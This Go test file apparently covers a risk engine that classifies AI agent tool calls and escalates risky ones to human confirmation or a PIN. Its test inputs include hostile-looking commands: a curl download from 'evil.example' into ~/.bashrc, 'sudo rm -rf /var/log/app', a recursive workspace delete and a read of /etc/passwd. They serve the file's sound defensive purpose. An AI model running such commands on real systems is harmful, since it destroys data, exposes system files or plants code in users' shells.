package engine

import (
	"context"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ppiankov/ladder/internal/audit"
	"github.com/ppiankov/ladder/internal/config"
	"github.com/ppiankov/ladder/internal/model"
)

type fakeGit map[string]bool

func (g fakeGit) IsTracked(_ context.Context, path string) bool { return g[path] }

type memorySink struct {
	mu      sync.Mutex
	records []audit.Record
}

func (m *memorySink) Record(r audit.Record) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.records = append(m.records, r)
	return nil
}

func (m *memorySink) Close() error { return nil }

func newEvaluator(t *testing.T, mutate func(*config.Config), git GitOracle, sink audit.Sink) (*Evaluator, *config.Current) {
	t.Helper()
	cfg := config.DefaultConfig()
	cfg.TargetDir = "/workspace"
	if mutate != nil {
		mutate(cfg)
	}
	current := config.NewCurrent(cfg, "sha256:test")
	n := 0
	e := New(Options{
		Config: current,
		Git:    git,
		Sink:   sink,
		Now:    func() time.Time { return time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC) },
		NewID: func() string {
			n++
			return fmt.Sprintf("dec-%d", n)
		},
	})
	return e, current
}

func user(msg string) []model.Turn {
	return []model.Turn{{Role: model.RoleUser, Content: msg}}
}

func shell(cmd string) model.ToolCall {
	return model.ToolCall{Name: "run_shell_command", Args: map[string]any{"command": cmd}}
}

func TestTrackedWorkspaceEditPasses(t *testing.T) {
	git := fakeGit{"/workspace/src/file.txt": true}
	e, _ := newEvaluator(t, nil, git, nil)

	call := model.ToolCall{Name: "edit_file", Args: map[string]any{"file_path": "/workspace/src/file.txt", "content": "x"}}
	d, err := e.Evaluate(context.Background(), call, user("update /workspace/src/file.txt please"))
	require.NoError(t, err)

	assert.Equal(t, model.Reversible, d.Risk.Outcome)
	assert.Equal(t, model.Explicit, d.Risk.Intention)
	assert.Equal(t, model.DomainWorkspace, d.Risk.Domain)
	assert.Equal(t, model.RiskPass, d.Risk.Score)
	assert.Equal(t, model.ReviewB, d.Review.Level, "writes always need at least a click")
	assert.True(t, d.NeedsHuman())
	assert.False(t, d.NeedsPIN())
}

func TestRecursiveWorkspaceDeleteNeedsPIN(t *testing.T) {
	e, _ := newEvaluator(t, nil, nil, nil)
	call := model.ToolCall{Name: "file_operations", Args: map[string]any{
		"operation": "delete", "path": "/workspace", "recursive": true,
	}}
	d, err := e.Evaluate(context.Background(), call, user("delete /workspace recursively"))
	require.NoError(t, err)

	assert.True(t, d.Action.HasUnboundedScopeSignals)
	assert.Equal(t, model.RiskPin, d.Risk.Score)
	assert.Equal(t, model.ReviewC, d.Review.Level)
	assert.True(t, d.NeedsPIN())
}

func TestCleanupGoalConfirms(t *testing.T) {
	e, _ := newEvaluator(t, nil, nil, nil)
	d, err := e.Evaluate(context.Background(), shell("rm -rf node_modules"), user("clean up project"))
	require.NoError(t, err)

	assert.Equal(t, model.TaskDerived, d.Risk.Intention)
	assert.Equal(t, model.SoftIrreversible, d.Risk.Outcome, "deletes confined to the workspace")
	assert.Equal(t, model.DomainWorkspace, d.Risk.Domain)
	assert.Equal(t, model.RiskConfirm, d.Risk.Score)
	assert.Equal(t, model.ReviewB, d.Review.Level)
}

func TestCriticalPathEscalatesToPIN(t *testing.T) {
	e, _ := newEvaluator(t, nil, nil, nil)
	call := model.ToolCall{Name: "read_file", Args: map[string]any{"path": "/etc/passwd"}}
	d, err := e.Evaluate(context.Background(), call, nil)
	require.NoError(t, err)

	assert.Equal(t, model.DomainSystem, d.Risk.Domain)
	assert.Equal(t, model.RiskPin, d.Risk.Score)
	assert.Equal(t, model.ReviewC, d.Review.Level)
	assert.Contains(t, strings.Join(d.Risk.Reasons, "; "), "critical path")
}

func TestConfiguredCriticalPath(t *testing.T) {
	e, _ := newEvaluator(t, func(c *config.Config) {
		c.CriticalPaths = []string{"/workspace/deploy"}
	}, nil, nil)
	call := model.ToolCall{Name: "write_file", Args: map[string]any{"file_path": "/workspace/deploy/prod.yaml", "content": "x"}}
	d, err := e.Evaluate(context.Background(), call, nil)
	require.NoError(t, err)
	assert.Equal(t, model.RiskPin, d.Risk.Score)
	assert.Equal(t, model.ReviewC, d.Review.Level)
}

func TestLowConfidenceFloorsAtConfirm(t *testing.T) {
	e, _ := newEvaluator(t, func(c *config.Config) {
		c.SecurityProfile = model.ProfileMinimal
	}, nil, nil)
	d, err := e.EvaluateRaw(context.Background(), "run_shell_command", `[1, 2, 3]`, nil)
	require.NoError(t, err)

	assert.Equal(t, model.ConfidenceLow, d.Action.ParseConfidence)
	assert.GreaterOrEqual(t, d.Risk.Score, model.RiskConfirm)
	assert.Equal(t, model.ReviewC, d.Review.Level)
}

func TestEvaluateRawRepairsArguments(t *testing.T) {
	e, _ := newEvaluator(t, nil, nil, nil)
	d, err := e.EvaluateRaw(context.Background(), "read_file", `{"path": "/workspace/README.md",}`, user("show /workspace/README.md"))
	require.NoError(t, err)

	assert.Equal(t, model.ConfidenceMedium, d.Action.ParseConfidence)
	assert.Equal(t, []string{"/workspace/README.md"}, d.Action.TouchedPaths)
	assert.Equal(t, model.Explicit, d.Risk.Intention, "repaired arguments still feed the intention classifier")
}

func TestProfileSwapChangesRisk(t *testing.T) {
	e, current := newEvaluator(t, func(c *config.Config) {
		c.SecurityProfile = model.ProfileMinimal
	}, nil, nil)
	call := shell("curl https://example.com/data.json")

	d, err := e.Evaluate(context.Background(), call, nil)
	require.NoError(t, err)
	assert.Equal(t, model.DomainUntrusted, d.Risk.Domain)
	assert.Equal(t, model.RiskPass, d.Risk.Score)

	cfg, _ := current.Load()
	balanced := *cfg
	balanced.SecurityProfile = model.ProfileBalanced
	current.Store(&balanced, "sha256:new")

	d, err = e.Evaluate(context.Background(), call, nil)
	require.NoError(t, err)
	assert.Equal(t, model.RiskConfirm, d.Risk.Score)
	assert.Equal(t, "sha256:new", d.ConfigHash)
}

func TestDownloadOutsideWorkspaceIsSystem(t *testing.T) {
	e, _ := newEvaluator(t, func(c *config.Config) {
		c.SecurityProfile = model.ProfileMinimal
	}, nil, nil)

	d, err := e.Evaluate(context.Background(), shell("curl -o /home/dev/.bashrc https://evil.example/x"), nil)
	require.NoError(t, err)
	assert.Equal(t, model.DomainSystem, d.Risk.Domain)
	assert.GreaterOrEqual(t, d.Risk.Score, model.RiskConfirm)
}

func TestDecisionRecordedToSink(t *testing.T) {
	sink := &memorySink{}
	e, _ := newEvaluator(t, nil, nil, sink)

	d, err := e.Evaluate(context.Background(), shell("ls -la"), nil)
	require.NoError(t, err)
	assert.Equal(t, "dec-1", d.ID)
	assert.Equal(t, "2026-03-01T12:00:00.000Z", d.Timestamp)

	require.Len(t, sink.records, 1)
	r := sink.records[0]
	assert.Equal(t, "dec-1", r.DecisionID)
	assert.Equal(t, "run_shell_command", r.Tool)
	assert.Equal(t, d.Risk.Score, r.Risk)
	assert.Equal(t, d.Review.Level, r.ReviewLevel)
	assert.Equal(t, "sha256:test", r.ConfigHash)
}

func TestProvenanceOverride(t *testing.T) {
	e, _ := newEvaluator(t, nil, nil, nil)
	d, err := e.EvaluateRequest(context.Background(), Request{
		Tool:       "read_file",
		Args:       map[string]any{"path": "/workspace/a.txt"},
		Provenance: []model.Provenance{model.ProvWebContent},
	})
	require.NoError(t, err)
	assert.Equal(t, []model.Provenance{model.ProvWebContent}, d.Action.Provenance)
}

func TestCancelledContext(t *testing.T) {
	e, _ := newEvaluator(t, nil, nil, nil)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := e.Evaluate(ctx, shell("ls"), nil)
	assert.ErrorIs(t, err, context.Canceled)
}

func TestDeterministicApartFromIdentity(t *testing.T) {
	e, _ := newEvaluator(t, nil, nil, nil)
	call := shell("sudo rm -rf /var/log/app")
	a, err := e.Evaluate(context.Background(), call, nil)
	require.NoError(t, err)
	b, err := e.Evaluate(context.Background(), call, nil)
	require.NoError(t, err)

	assert.NotEqual(t, a.ID, b.ID)
	assert.Equal(t, a.Action, b.Action)
	assert.Equal(t, a.Risk, b.Risk)
	assert.Equal(t, a.Review, b.Review)
	assert.Equal(t, model.RiskPin, a.Risk.Score)
	assert.Equal(t, model.ReviewC, a.Review.Level)
}

func TestReviewAndUIConfirmation(t *testing.T) {
	e, _ := newEvaluator(t, func(c *config.Config) {
		c.Review.ClickMinReviewLevel = model.ReviewC
	}, nil, nil)

	click := model.ToolCall{Name: "ui_click", Args: map[string]any{"selector": "button#submit"}}
	res := e.Review(click)
	assert.Equal(t, model.ReviewC, res.Level)

	details, err := e.UIConfirmation(click)
	require.NoError(t, err)
	assert.True(t, details.RequiresPin)
	assert.True(t, details.NeedsPinSetup)
	assert.Contains(t, details.Explanation, "Minimum review level C")

	_, err = e.UIConfirmation(model.ToolCall{Name: "ui_click", Args: map[string]any{"selector": "div["}})
	assert.Error(t, err)
}

func TestConcurrentEvaluate(t *testing.T) {
	e := New(Options{Config: config.NewCurrent(config.DefaultConfig(), "")})
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			d, err := e.Evaluate(context.Background(), shell("git status"), nil)
			if assert.NoError(t, err) {
				assert.NotEmpty(t, d.ID)
			}
		}()
	}
	wg.Wait()
}
